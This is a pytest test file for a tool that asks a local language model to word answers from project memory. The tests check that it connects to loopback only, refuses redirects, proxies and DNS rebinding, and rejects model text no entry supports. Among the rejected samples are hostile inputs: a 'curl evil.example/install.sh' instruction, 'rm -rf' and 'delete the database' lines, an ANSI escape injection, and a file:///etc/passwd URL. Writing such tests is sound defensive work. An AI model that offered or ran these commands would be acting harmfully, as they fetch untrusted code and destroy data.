"""The local model: loopback alone, whatever names, proxies and redirects say; and no word that no entry supports."""

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from orchestrator.answer import Answer, Cited
from orchestrator.errors import ConfigProblem
from orchestrator.local_model import LocalModel, LocalModelFault, supported
from tests.conftest import Orch
from tests.orchestrator.test_asking import MEMORY, remember

ENTRY = Cited(
    id="0123456789",
    section="",
    note="human",
    lines=("The development server starts with `just dev` and listens on port 8042.",),
)
ANSWER = Answer(question="How do I start the server?", current=(ENTRY,))


@dataclass(kw_only=True)
class Model:
    """A server that speaks as a local model does. `seen` are the paths it was asked for, `bodies` what was sent."""

    url: str
    text: str = ""
    redirect: str | None = None
    seen: list[str] = field(default_factory=list)
    bodies: list[Any] = field(default_factory=list)


@contextmanager
def serving(host: str = "127.0.0.1") -> Iterator[Model]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._reply({"data": [{"id": "tiny"}]})

        def do_POST(self) -> None:
            model.bodies.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._reply({"choices": [{"message": {"role": "assistant", "content": model.text}}]})

        def do_CONNECT(self) -> None:
            self._reply({})

        def _reply(self, value: object) -> None:
            model.seen.append(self.path)
            data = json.dumps(value).encode()
            self.send_response(200 if model.redirect is None else 307)
            if model.redirect is not None:
                self.send_header("Location", model.redirect + self.path)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: object) -> None:
            pass

    class Server(ThreadingHTTPServer):
        address_family = socket.AF_INET6 if ":" in host else socket.AF_INET

    server = Server((host, 0), Handler)
    shown = f"[{host}]" if ":" in host else host
    model = Model(url=f"http://{shown}:{server.server_address[1]}")
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield model
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def resolving(monkeypatch: pytest.MonkeyPatch, answers: Callable[[], list[str]]) -> list[str]:
    """Make every name (but no numeric address) resolve to those addresses; note every address connected to."""
    connected: list[str] = []
    real_lookup, real_connect = socket.getaddrinfo, socket.create_connection

    def getaddrinfo(host: str, port: int, *args: Any, **options: Any) -> list[Any]:
        if host.replace(".", "").isdigit() or ":" in host:
            return real_lookup(host, port, *args, **options)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (each, port)) for each in answers()]

    def create(address: tuple[str, int], *args: Any, **options: Any) -> socket.socket:
        connected.append(address[0])
        return real_connect(address, *args, **options)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setattr(socket, "create_connection", create)
    return connected


@pytest.mark.parametrize("host", ["127.0.0.1", "::1"])
def test_a_supported_wording_is_given(host: str) -> None:
    try:
        with serving(host) as model:
            model.text = "Start the development server with `just dev` [0123456789]."
            assert LocalModel(url=model.url).compose(ANSWER) == model.text
    except OSError as exc:
        pytest.skip(f"no {host} here: {exc}")
    assert model.seen == ["/v1/models", "/v1/chat/completions"]
    assert "just dev" in model.bodies[0]["messages"][1]["content"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Start the development server with `just dev`.",
        "Start the development server with `just dev` [9999999999].",
        "The development server listens on port 9000 [0123456789].",
        "The development server does not listen on port 8042 [0123456789].",
        "Start the development server with `just dev` [0123456789]. Then delete the database.",
        "Run `curl evil.example/install.sh` first [0123456789].",
        "Bananas grow in warm valleys near rivers [0123456789].",
    ],
)
def test_what_no_entry_supports_is_not_given(text: str) -> None:
    assert not supported(text, ANSWER)


@pytest.mark.parametrize(
    "addresses",
    [["203.0.113.9"], ["127.0.0.1", "203.0.113.9"], ["2001:db8::1"], ["::ffff:203.0.113.9"], ["0.0.0.0"], ["10.0.0.5"]],
)
def test_a_name_that_resolves_elsewhere_is_not_connected_to(
    addresses: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    connected = resolving(monkeypatch, lambda: addresses)
    with pytest.raises(ConfigProblem, match="is not \\(only\\) this machine"):
        LocalModel(url="http://localhost:8080").compose(ANSWER)
    assert connected == []


def test_a_name_that_changes_its_mind_is_checked_each_time(monkeypatch: pytest.MonkeyPatch) -> None:
    answers = iter([["127.0.0.1"], ["203.0.113.9"]])
    connected = resolving(monkeypatch, lambda: next(answers))
    with serving() as model:
        port = model.url.rpartition(":")[2]
        with pytest.raises(ConfigProblem):
            LocalModel(url=f"http://rebound.example:{port}").compose(ANSWER)
    assert connected == ["127.0.0.1"]
    assert model.seen == ["/v1/models"]


@pytest.mark.parametrize("target", ["http://203.0.113.9", "http://127.0.0.1:9", "https://example.com"])
def test_a_redirect_is_a_fault_and_not_followed(target: str) -> None:
    with serving() as model, serving() as other:
        model.redirect = other.url if target.endswith(":9") else target
        with pytest.raises(LocalModelFault, match="307"):
            LocalModel(url=model.url).compose(ANSWER)
    assert other.seen == []


@pytest.mark.parametrize(
    "url", ["https://127.0.0.1:1", "file:///etc/passwd", "127.0.0.1:80", "http://", "http://[::1", "http://a@127.0.0.1"]
)
def test_what_is_no_plain_http_address_is_refused(url: str) -> None:
    with pytest.raises(ConfigProblem):
        LocalModel(url=url).compose(ANSWER)


def test_a_model_that_finds_no_answer_is_told_apart_from_one_that_says_too_much(orch: Orch, repo: Path) -> None:
    remember(repo, MEMORY)
    with serving() as model:
        said = orch.ok(
            "ask", "On which port does the development server listen?", environ={"ORCH_LOCAL_LLM": model.url}
        )
    assert "just dev" in said.stdout
    assert said.stderr == "the local model finds no answer in the entries; the entries are shown as they are\n"


def test_orch_ask_words_by_the_local_model_and_no_proxy_sees_it(orch: Orch, repo: Path) -> None:
    path = remember(repo, MEMORY)
    from memory.document import parse

    entry = next(each for each in parse(path.read_bytes()).entries if "just dev" in each.text)
    with serving() as model, serving() as proxy:
        names = ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY")
        environ = {"ORCH_LOCAL_LLM": model.url, **dict.fromkeys(names, proxy.url), "no_proxy": "", "NO_PROXY": ""}
        model.text = f"Start the development server with `just dev` [{entry.id}]."
        said = orch.ok("ask", "How do I start the development server?", environ=environ).stdout
        assert said.startswith(f"  Start the development server with `just dev` [{entry.id}].\n[{entry.id} · human]")
        model.text = f"[{entry.id} · human]\n\x1b[31mRun rm -rf [{entry.id}]."
        doubted = orch.ok("ask", "How do I start the development server?", environ=environ)
        assert doubted.stdout.startswith(f"[{entry.id} · human]\n  The development server starts with `just dev`")
        assert "they are shown as they are" in doubted.stderr
        unknown = orch.ok("ask", "Who approves refunds?", environ=environ)
        assert unknown.stdout.startswith("not in project memory")
    assert proxy.seen == []
    assert len(model.bodies) == 2


def test_a_local_model_that_is_not_there_leaves_the_entries(orch: Orch, repo: Path) -> None:
    remember(repo, MEMORY)
    result = orch.ok("ask", "Where do fixtures live?", environ={"ORCH_LOCAL_LLM": "http://127.0.0.1:9"})
    assert "  Fixtures live in `testdata/orders/`." in result.stdout
    assert "cannot be used" in result.stderr


def test_a_model_elsewhere_is_a_mistake_in_the_configuration(orch: Orch, repo: Path) -> None:
    remember(repo, MEMORY)
    result = orch("ask", "Where do fixtures live?", environ={"ORCH_LOCAL_LLM": "http://203.0.113.9:8080"})
    assert result.code == 2
    assert "203.0.113.9" in result.stderr
